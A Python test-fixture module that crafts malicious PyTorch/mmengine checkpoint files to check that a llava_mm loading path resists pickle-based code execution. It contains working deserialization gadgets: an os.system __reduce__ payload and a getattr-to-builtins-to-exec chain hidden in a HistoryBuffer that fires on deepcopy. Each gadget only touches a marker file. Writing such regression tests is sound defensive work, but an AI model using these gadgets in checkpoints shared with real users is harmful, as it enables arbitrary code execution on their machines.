"""Crafted checkpoint files that try to run code when loaded.

Each payload, if it runs, creates ``marker`` (a file path). Tests load the
file through a llava_mm path and check that the marker does not exist.
"""
import copyreg
import io
import os
import pickle
import types

import torch
from mmengine.logging import HistoryBuffer


class _GetAttr:
    """Pickles as ``getattr(obj, name)``."""

    def __init__(self, obj, name):
        self.obj, self.name = obj, name

    def __reduce__(self):
        return getattr, (self.obj, self.name)


class _System:
    """The classic payload: pickles as ``os.system(cmd)``."""

    def __init__(self, cmd):
        self.cmd = cmd

    def __reduce__(self):
        return os.system, (self.cmd,)


def _getattr_history_buffer(marker: str) -> HistoryBuffer:
    """A HistoryBuffer whose ``__reduce_ex__`` (set by the pickle) makes
    ``copy.deepcopy`` call ``exec``. Only ``getattr`` and ``HistoryBuffer``
    are named in the file: ``getattr(getattr, '__self__')`` is the builtins
    module, and ``exec`` one more getattr away."""
    builtins_mod = _GetAttr(getattr, '__self__')
    exec_fn = _GetAttr(builtins_mod, 'exec')
    code = f'open({marker!r}, "w").write("ran")'
    table = {4: (exec_fn, (code, )), 2: (exec_fn, (code, ))}
    buf = HistoryBuffer()
    buf._payload_state = {'__reduce_ex__': _GetAttr(table, 'get')}
    return buf


class _Pickler(pickle.Pickler):
    """Pickles payload HistoryBuffers with their crafted state."""

    def reducer_override(self, obj):
        state = getattr(obj, '_payload_state', None) if isinstance(
            obj, HistoryBuffer) else None
        if state is None:
            return NotImplemented
        return copyreg.__newobj__, (HistoryBuffer, ), state


def _pickle_module():
    module = types.ModuleType('payload_pickle')
    module.__dict__.update(vars(pickle))
    module.Pickler = _Pickler
    return module


def save_payload(obj, path: str) -> str:
    """``torch.save`` with the crafted pickler; returns ``path``."""
    buf = io.BytesIO()
    torch.save(obj, buf, pickle_module=_pickle_module(), pickle_protocol=2)
    with open(path, 'wb') as f:
        f.write(buf.getvalue())
    return path


def getattr_checkpoint(path: str, marker: str, state_dict=None,
                       iteration: int = 1) -> str:
    """A Runner-style checkpoint whose message hub runs ``exec`` when
    mmengine deep-copies it (the attack of issue #17)."""
    hub = dict(log_scalars={}, runtime_info={
        'iter': iteration, 'evil': _getattr_history_buffer(marker)},
        resumed_keys={'iter': True, 'evil': True})
    return save_payload(dict(meta=dict(epoch=0, iter=iteration),
                             state_dict=state_dict or {},
                             message_hub=hub), path)


def system_checkpoint(path: str, marker: str, state_dict=None) -> str:
    """A checkpoint whose unpickling calls ``os.system('touch marker')``."""
    return save_payload(dict(meta=dict(epoch=0, iter=1),
                             state_dict=state_dict or {},
                             hook=_System(f'touch {marker}')), path)
